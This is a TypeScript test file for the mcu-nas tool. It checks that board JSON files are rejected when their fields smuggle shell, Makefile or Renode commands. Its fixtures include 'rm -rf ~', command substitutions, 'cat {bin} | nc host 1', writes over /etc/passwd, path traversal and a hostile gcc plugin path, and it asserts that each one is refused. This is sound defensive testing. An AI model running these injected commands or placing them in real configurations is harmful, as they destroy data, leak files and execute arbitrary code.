// Board files are code paths: every string that reaches a Makefile, a shell, a linker script or a
// Renode script has a strict pattern, and the fields must agree with each other. Each case below is a
// board file a user could put in --boards-dir; each must be refused at load (exit 2), naming the file
// and the field, before anything is generated or run.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { BUILTIN_BOARDS_DIR, listBoards, loadBoard, MAX_BOARD_FILE_BYTES, MAX_BOARD_FILES, parseBoard } from '../../src/board/index.ts';
import { CORE_FACTS, CORES, QEMU_CPU_FPU } from '../../src/board/cores.ts';
import { GCC_FPUS, readGccFlags } from '../../src/board/gcc-flags.ts';
import { QEMU_MACHINES } from '../../src/board/qemu-machines.ts';
import { MACHINE_TICK_HZ } from '../../src/codegen/qemu-args.ts';
import { InputError } from '../../src/errors.ts';
import { runCliAsync as runCli } from '../helpers/run-cli.ts';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'board-checks-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Raw = Record<string, any>;
const raw = (name: string): Raw => JSON.parse(fs.readFileSync(path.join(BUILTIN_BOARDS_DIR, `${name}.json`), 'utf8'));

/** The one-line InputError for `board` loaded from a user's folder as <name>.json. */
function refusal(board: Raw): string {
  const dir = fs.mkdtempSync(path.join(tmp, 'dir-'));
  const file = path.join(dir, `${board.name}.json`);
  fs.writeFileSync(file, JSON.stringify(board));
  try {
    loadBoard(board.name, { boardsDir: dir });
  } catch (e) {
    expect(e).toBeInstanceOf(InputError);
    const message = (e as Error).message;
    expect(message.startsWith(`${file}: field "`)).toBe(true);
    expect(message).not.toMatch(/\n/);
    return message.slice(file.length + 2);
  }
  throw new Error('accepted');
}

const f746 = () => raw('stm32f746');
const withQemu = (b: Raw, q: Raw) => ({ ...b, emulator: { ...b.emulator, qemu: { ...b.emulator.qemu, ...q } } });

describe('strings that reach a Makefile, a shell or a Renode script', () => {
  it.each([
    ['make syntax in the machine', { machine: 'mps2-an500\n$(shell touch X)\n#' }, 'emulator.qemu.machine'],
    ['a shell command in the machine', { machine: 'mps2-an500 ; touch X ;' }, 'emulator.qemu.machine'],
    ['a backquote in the cpu', { cpu: 'cortex-m7`id`' }, 'emulator.qemu.cpu'],
  ])('%s', (_what, q, field) => {
    expect(refusal(withQemu(f746(), q))).toMatch(new RegExp(`^field "${field.replace(/\./g, '\\.')}": .* must be a QEMU name`));
  });

  it('an unknown QEMU machine is refused at load, listing the ones that run', () => {
    expect(refusal(withQemu(f746(), { machine: 'mps2-an999' }))).toBe(
      `field "emulator.qemu.machine": "mps2-an999" is not a QEMU machine mcu-nas runs (${Object.keys(QEMU_MACHINES).join(', ')})`,
    );
  });

  it.each([
    ['a command substitution', 'st-flash write $(id) 0x8000000'],
    ['a backquote', 'st-flash write `id` 0x8000000'],
    ['a second command', 'st-flash write {bin} 0x8000000; rm -rf ~'],
    ['a newline', 'st-flash write {bin} 0x8000000\nall:\n\trm -rf /'],
    ['a pipe', 'cat {bin} | nc host 1'],
    ['a redirection', 'st-flash write {bin} > /etc/passwd'],
    ['a Makefile comment', 'st-flash write {bin} # 0x8000000'],
  ])('a flash command with %s', (_what, command) => {
    expect(refusal({ ...f746(), flashCommands: [command] })).toMatch(/^field "flashCommands\[0\]": .* must be one command of letters, digits, spaces, quotes/);
  });

  it('a flash command with an unknown placeholder or an unpaired quote', () => {
    expect(refusal({ ...f746(), flashCommands: ['st-flash write {firmware} 0x8000000'] })).toMatch(/^field "flashCommands\[0\]": .* may use only the placeholders \{elf\}, \{bin\}, \{hex\} and \{uf2\}$/);
    expect(refusal({ ...f746(), flashCommands: ['openocd -c "program {elf}'] })).toMatch(/^field "flashCommands\[0\]": .* has an unpaired double quote$/);
  });

  it.each([['../../etc/passwd.repl'], ['/etc/x.repl'], ['x.repl\nsysbus LoadELF @/etc/passwd'], ['platforms/cpus/stm32f746']])('a Renode platform %j', (platform) => {
    expect(refusal({ ...f746(), emulator: { ...f746().emulator, renode: platform } })).toMatch(/^field "emulator\.renode": .* must be a platform path/);
  });

  it('a description with a newline (it reaches comments of generated files)', () => {
    expect(refusal({ ...f746(), description: 'F746\n$(shell id)' })).toMatch(/^field "description": .* must be one line without control characters$/);
  });
});

describe('gccFlags: an allow-list, in agreement with core and fpu', () => {
  const flags = (gccFlags: string[], more: Raw = {}) => refusal({ ...f746(), ...more, gccFlags });

  it.each([
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard', '-O0'], 4, 'is not an allowed option'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard', '-fplugin=/tmp/evil.so'], 4, 'is not an allowed option'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard', '-Wl,--just-symbols=/etc/passwd'], 4, 'is not an allowed option'],
    [['-mcpu=cortex-m7', '-O2; rm -rf ~'], 1, 'is not an allowed option'],
    [['-mcpu=cortex-m4', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard'], 0, 'does not match "core": "cortex-m7" (use -mcpu=cortex-m7)'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=neon', '-mfloat-abi=hard'], 2, 'is not an FPU gcc knows for Cortex-M'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-d16', '-mfloat-abi=hard'], 2, 'is a double-precision FPU, but "fpu" is "sp"'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfloat-abi=hard'], 2, 'builds for a double-precision FPU (gcc\'s -mfpu=auto on cortex-m7), but "fpu" is "sp": give -mfpu=fpv5-sp-d16'],
    [['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=both'], 3, 'must be -mfloat-abi=soft, softfp or hard'],
    [['-mcpu=cortex-m7', '-mthumb', '-mthumb'], 2, 'repeats gccFlags[1]'],
  ])('%j: gccFlags[%i] %s', (list, index, message) => {
    const m = flags(list);
    expect(m.startsWith(`field "gccFlags[${index}]": ${JSON.stringify(list[index])} `)).toBe(true);
    expect(m.endsWith(message) || m.includes(` ${message}`)).toBe(true);
  });

  it('-mcpu and -mthumb are required', () => {
    expect(flags(['-mthumb'])).toMatch(/^field "gccFlags": .* needs -mcpu=cortex-m7$/);
    expect(flags(['-mcpu=cortex-m7'])).toMatch(/^field "gccFlags": .* needs -mthumb/);
  });

  it('hard float on a chip without an FPU', () => {
    expect(flags(['-mcpu=cortex-m7', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard'], { fpu: 'none' })).toBe(
      'field "gccFlags[3]": "-mfloat-abi=hard" builds for an FPU, but "fpu" is "none" (use -mfloat-abi=soft)',
    );
    const m3 = { ...raw('rp2040'), name: 'm3', core: 'cortex-m3' };
    expect(refusal({ ...m3, gccFlags: ['-mcpu=cortex-m3', '-mthumb', '-mfloat-abi=hard'] })).toBe('field "gccFlags[2]": "-mfloat-abi=hard" needs an FPU, and cortex-m3 has none');
  });

  it('an FPU of another core', () => {
    const m4 = (gccFlags: string[]) => refusal({ ...raw('stm32f411'), gccFlags });
    expect(m4(['-mcpu=cortex-m4', '-mthumb', '-mfpu=fpv5-sp-d16', '-mfloat-abi=hard'])).toBe('field "gccFlags[2]": "-mfpu=fpv5-sp-d16" is not an FPU of cortex-m4');
  });

  it('soft float on a chip with an FPU is allowed (the FPU is just unused)', () => {
    const b = { ...f746(), gccFlags: ['-mcpu=cortex-m7', '-mthumb', '-mfloat-abi=soft'] };
    expect(parseBoard(b, 'stm32f746.json').gccFlags).toEqual(b.gccFlags);
  });

  it('every hard-float flag set the checker accepts, gcc accepts too and builds for the FPU the checker says', () => {
    // An independent judge: the installed arm-none-eabi-gcc, asked for its predefined macros.
    const cases: [string, string[], string][] = [];
    let refused = 0;
    for (const core of CORES)
      for (const fpu of CORE_FACTS[core].fpus)
        for (const fpuName of ['auto', ...Object.keys(GCC_FPUS)]) {
          const list = [`-mcpu=${core}`, '-mthumb', ...(fpuName === 'auto' ? [] : [`-mfpu=${fpuName}`]), '-mfloat-abi=hard'];
          const r = readGccFlags(list, core, fpu);
          if ('message' in r) refused++;
          else cases.push([core, list, r.fpu]);
        }
    // m4 sp (auto, fpv4), m7 sp (fpv5-sp, fpv4), m7 dp (auto, fpv5), m33 sp (auto, fpv5-sp), m55 dp (auto).
    expect([cases.length, refused]).toEqual([9, 39]);
    const macro = { none: undefined, sp: '4', dp: '14' } as const;
    for (const [core, list, fpu] of cases) {
      const out = execFileSync('arm-none-eabi-gcc', [...list, '-dM', '-E', '-x', 'c', '/dev/null'], { encoding: 'utf8' });
      const fp = /#define __ARM_FP (\d+)/.exec(out)?.[1];
      expect([core, list.join(' '), fp]).toEqual([core, list.join(' '), macro[fpu as keyof typeof macro]]);
    }
  });
});

describe('cross-field checks', () => {
  it('systickHz: 1 is refused (it made latencies of 6.9e16 ms)', () => {
    expect(refusal(withQemu(f746(), { systickHz: 1 }))).toBe('field "emulator.qemu.systickHz": 1 is not the SysTick clock of mps2-an500 under QEMU (25000000)');
  });

  it('clockHz outside 1 MHz .. 1 GHz', () => {
    expect(refusal({ ...f746(), clockHz: 1000 })).toMatch(/^field "clockHz": 1000 must be between 1 MHz/);
    expect(refusal({ ...f746(), clockHz: 5e9 })).toMatch(/^field "clockHz": 5000000000 must be between 1 MHz/);
  });

  it('the QEMU cpu must be the machine\'s and must run the board\'s code', () => {
    expect(refusal(withQemu(f746(), { cpu: 'cortex-m4' }))).toBe('field "emulator.qemu.cpu": "cortex-m4" is not the CPU of mps2-an500 (cortex-m7)');
    expect(refusal(withQemu(f746(), { machine: 'mps2-an386', cpu: 'cortex-m4' }))).toBe('field "emulator.qemu.machine": "mps2-an386" has a cortex-m4, which cannot run cortex-m7 code');
    // An M4 with hard float on the M3 stand-in would fault on the first FPU instruction.
    const f411 = withQemu(raw('stm32f411'), { machine: 'mps2-an385', cpu: 'cortex-m3' });
    expect(refusal(f411)).toBe('field "emulator.qemu.machine": "mps2-an385" has a cortex-m3, which cannot run cortex-m4 code');
    expect(refusal(withQemu(raw('stm32f405'), { uart: { kind: 'cmsdk', base: '0x40011000' } }))).toBe('field "emulator.qemu.uart.kind": "cmsdk" is not the UART of netduinoplus2 (stm32-usart)');
  });

  it('core facts: FPU, DSP and MVE the core can have', () => {
    const rp = raw('rp2040');
    expect(refusal({ ...rp, fpu: 'sp' })).toBe('field "fpu": "sp" is not an FPU cortex-m0plus can have (none)');
    expect(refusal({ ...rp, dsp: true })).toBe('field "dsp": true but cortex-m0plus has no DSP extension');
    expect(refusal({ ...f746(), mve: true })).toBe('field "mve": true but cortex-m7 has no Helium (MVE)');
  });

  it('memory regions: overlaps, the flash, the 32-bit address space', () => {
    const b = f746();
    b.sram[2].base = '0x20008000';
    expect(refusal(b)).toBe('field "sram[2].base": "0x20008000" overlaps region "DTCM"');
    const c = f746();
    c.sram[1].base = '0x08000000';
    expect(refusal(c)).toBe('field "sram[1].base": "0x08000000" overlaps the flash at 0x8000000');
    expect(refusal({ ...f746(), flash: { base: '0xFFFF0000', size: '1M' } })).toBe('field "flash.size": "1M" runs past the 4 GiB address space');
    const d = f746();
    d.sram[3].base = '0xFFFFF000';
    expect(refusal(d)).toBe('field "sram[3].size": "16K" runs past the 4 GiB address space');
  });
});

describe('the catalogue itself', () => {
  it('every built-in board passes every check, and its flags build with gcc', () => {
    const boards = listBoards();
    expect(boards).toHaveLength(11);
    for (const b of boards) {
      const q = b.emulator.qemu!;
      expect(QEMU_MACHINES[q.machine].cpu).toBe(q.cpu);
      expect(() => execFileSync('arm-none-eabi-gcc', [...b.gccFlags, '-c', '-x', 'c', '/dev/null', '-o', '/dev/null'])).not.toThrow();
    }
  });

  it('the machine table agrees with the emulator\'s SysTick table and with qemu-system-arm', () => {
    for (const [name, m] of Object.entries(QEMU_MACHINES)) expect([name, MACHINE_TICK_HZ[name]]).toEqual([name, m.tickHz]);
    const help = execFileSync('qemu-system-arm', ['-M', 'help'], { encoding: 'utf8' });
    for (const [name, m] of Object.entries(QEMU_MACHINES)) {
      const line = help.split('\n').find((l) => l.startsWith(`${name} `));
      expect(line, name).toBeDefined();
      expect(line!.toLowerCase()).toContain(m.cpu);
    }
    expect(Object.keys(QEMU_CPU_FPU).sort()).toEqual([...CORES].sort());
  });
});

describe('--boards-dir bounds', () => {
  it('a folder of more board files than a catalogue reads is refused before reading any', () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'many-'));
    for (let i = 0; i <= MAX_BOARD_FILES; i++) fs.writeFileSync(path.join(dir, `b${i}.json`), '');
    expect(() => listBoards({ boardsDir: dir })).toThrow(`--boards-dir: ${dir} holds ${MAX_BOARD_FILES + 1} *.json files, more than the ${MAX_BOARD_FILES} a catalogue reads`);
  });

  it('a board file over the size limit is refused from its size', () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'big-'));
    const file = path.join(dir, 'big.json');
    fs.writeFileSync(file, Buffer.alloc(MAX_BOARD_FILE_BYTES + 1, 0x20));
    expect(() => loadBoard('big', { boardsDir: dir })).toThrow(`${file}: 256.1 KiB is more than the 256 KiB limit`);
  });
});

describe('mcu-nas boards --boards-dir with a hostile folder', () => {
  it('a board file that is a symlink to /dev/zero exits 2 at once with one error line', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'zero-'));
    fs.symlinkSync('/dev/zero', path.join(dir, 'zero.json'));
    const t0 = Date.now();
    const r = await runCli(['boards', '--boards-dir', dir], { timeoutMs: 60_000 });
    expect(Date.now() - t0).toBeLessThan(30_000);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.trim().split('\n')).toEqual([`error: ${path.join(dir, 'zero.json')}: not a regular file (it links to /dev/zero, a character device)`]);
  });

  it('an injected machine name exits 2 naming the field', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'inject-'));
    fs.writeFileSync(path.join(dir, 'evil.json'), JSON.stringify(withQemu({ ...f746(), name: 'evil' }, { machine: 'mps2-an500 ; touch X ;' })));
    const r = await runCli(['boards', '--boards-dir', dir], { timeoutMs: 60_000 });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^error: .*evil\.json: field "emulator\.qemu\.machine": "mps2-an500 ; touch X ;" must be a QEMU name/);
  });
});
